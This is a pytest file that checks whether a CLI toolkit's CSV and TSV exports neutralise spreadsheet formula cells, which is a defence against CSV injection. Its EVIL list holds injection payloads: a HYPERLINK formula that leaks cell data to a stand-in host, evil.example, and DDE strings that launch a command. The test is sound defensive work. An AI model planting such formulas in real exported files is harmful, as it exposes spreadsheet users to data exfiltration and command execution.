"""Issue 12, finding 6: every CSV the toolkit emits neutralises formula cells (one writer: tinytalk_sdk.csvsafe).

Two halves: the command tree is walked, so a new command with ``--csv`` or a CSV export must be listed here;
each one that can run on a database alone is run on rows full of formulas, and the others are shown to go
through the shared renderer, which is tested with the same values. A grep keeps ``csv.writer`` in one module.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine
from typer.main import get_command
from typer.testing import CliRunner

from tinytalk_cli.main import app
from tinytalk_sdk.csvsafe import neutralize_cell, unneutralize_cell

from .conftest import add_character, add_usage, add_user, insert

ROOT = Path(__file__).resolve().parents[2]
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]

# Every command with --csv or writing a CSV file: how the test runs it (None: it renders through
# tinytalk_cli._output.print_rows/print_record, tested below, and needs a live service to run).
RUN: dict[str, list[str] | None] = {
    "members list": ["members", "list", "--csv"],
    "members search": ["members", "search", "HYPERLINK", "--csv"],
    "members export": ["members", "export"],
    "characters list": ["characters", "list", "--csv"],
    "assignments export": ["assignments", "export"],
    "usage export": ["usage", "export", "--csv"],
    "usage report": ["usage", "report", "--csv", "--by", "model"],
    "settings list": ["settings", "list", "--csv"],
    "personas list": ["personas", "list", "--csv"],
    "conversations list": ["conversations", "list", "--csv"],
    "config show": None,
    "config profiles": None,
    "db check": None,
    "settings history": None,
    "api sessions list": None,
    "api sessions history": None,
    "live2d versions": None,
    "personas history": None,
    "storage report": None,
    "heygen avatars": None,
    "heygen voices": None,
    "heygen contexts": None,
    "heygen sessions list": None,
}
# Exports that write JSON, not CSV (listed so that the walk below knows them).
NOT_CSV = {"personas export", "conversations export"}


def _walk(cmd: object, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], Any]]:
    sub = getattr(cmd, "commands", None)
    if sub:
        for name, child in sub.items():
            yield from _walk(child, (*path, name))
    else:
        yield path, cmd


def dangerous(cell: str) -> bool:
    """A cell a spreadsheet would evaluate (OWASP), real numbers apart."""
    if re.fullmatch(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", cell):
        return False
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(("=", "+", "-", "@"))


def check_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows, "no CSV output"
    bad = [cell for row in rows for cell in row if dangerous(cell)]
    assert bad == []
    return rows


def test_every_csv_command_is_listed() -> None:
    found = set()
    for path, cmd in _walk(get_command(app)):
        opts = {o for p in cmd.params for o in getattr(p, "opts", [])}
        if "--csv" in opts or path[-1] == "export":
            found.add(" ".join(path))
    assert found - NOT_CSV == set(RUN)


def test_no_module_writes_csv_but_csvsafe() -> None:
    offenders = []
    for folder in ("tinytalk_sdk", "tinytalk_cli", "live2d_tools"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "csvsafe.py":
                continue
            if re.search(r"\bcsv\.(writer|DictWriter)\b|\bDictWriter\(", path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


@pytest.mark.parametrize("value", EVIL)
def test_the_rule_and_its_inverse(value: str) -> None:
    assert neutralize_cell(value) == "'" + value
    assert unneutralize_cell(neutralize_cell(value)) == value
    assert neutralize_cell("김민수") == "김민수" and neutralize_cell(-3) == "-3" and neutralize_cell(None) == ""


@pytest.fixture
def hostile(sqlite_engine: Engine, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Engine:
    engine = sqlite_engine
    monkeypatch.setenv("TINYTALK_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    monkeypatch.chdir(tmp_path)
    char = add_character(engine, "haru", name=EVIL[0])
    for i, value in enumerate(EVIL):
        uid = add_user(engine, f"s{i}@school.kr", name=value, student_no=value, school=value, class_name="3-2")
        insert(engine, "student_character_assignments", user_id=uid, character_id=char, school=value,
               class_name="3-2")
        add_usage(engine, service="openai", model=value[:100], tag=value[:32], user_id=uid, request_id=value)
    insert(engine, "ai_personas", name="tiny", display_name=EVIL[1], system_prompt=EVIL[2], version=1,
           model=EVIL[3], temperature=0.7, is_default=False, status="active", created_at=_now())
    insert(engine, "admin_settings", setting_key="motd", setting_value=EVIL[0], value_type="string",
           updated_by=EVIL[1], updated_at=_now())
    sid = insert(engine, "chat_sessions", user_id=uid, persona_id=None, title=EVIL[4], status="active",
                 session_date=_now().date(), response_mode="audio", created_at=_now())
    insert(engine, "chat_messages", session_id=sid, role="user", content=EVIL[5], created_at=_now())
    return engine


def _now() -> Any:
    import datetime as dt

    return dt.datetime.now(dt.UTC).replace(microsecond=0)


@pytest.mark.parametrize("name", [k for k, v in RUN.items() if v is not None])
def test_every_csv_command_neutralises_formulas(hostile: Engine, name: str) -> None:
    args = RUN[name]
    assert args is not None
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    rows = check_csv(result.stdout)
    cells = {c for row in rows for c in row}
    assert any(c.startswith("'") and unneutralize_cell(c) in EVIL for c in cells), (name, rows[:3])


def test_the_shared_renderer_neutralises_rows_and_records(capsys: pytest.CaptureFixture[str]) -> None:
    from tinytalk_cli._output import OutputFormat, print_record, print_rows

    print_rows([{"a": v, "n": -3, "f": -0.5} for v in EVIL], ["a", "n", "f"], fmt=OutputFormat.csv)
    rows = check_csv(capsys.readouterr().out)
    assert [r[0] for r in rows[1:]] == ["'" + v for v in EVIL]
    assert rows[1][1:] == ["-3", "-0.5"]  # real numbers stay numbers
    print_record({v[:3]: v for v in EVIL}, fmt=OutputFormat.csv)
    check_csv(capsys.readouterr().out)
    print_rows([{"a": v, "n": -3} for v in EVIL], ["a", "n"], fmt=OutputFormat.tsv)  # TSV opens in Excel too
    tsv = [line.split("\t") for line in capsys.readouterr().out.splitlines()]
    assert len(tsv) == len(EVIL) + 1 and not [c for r in tsv for c in r if dangerous(c)]
    assert [r[1] for r in tsv[1:]] == ["-3"] * len(EVIL)
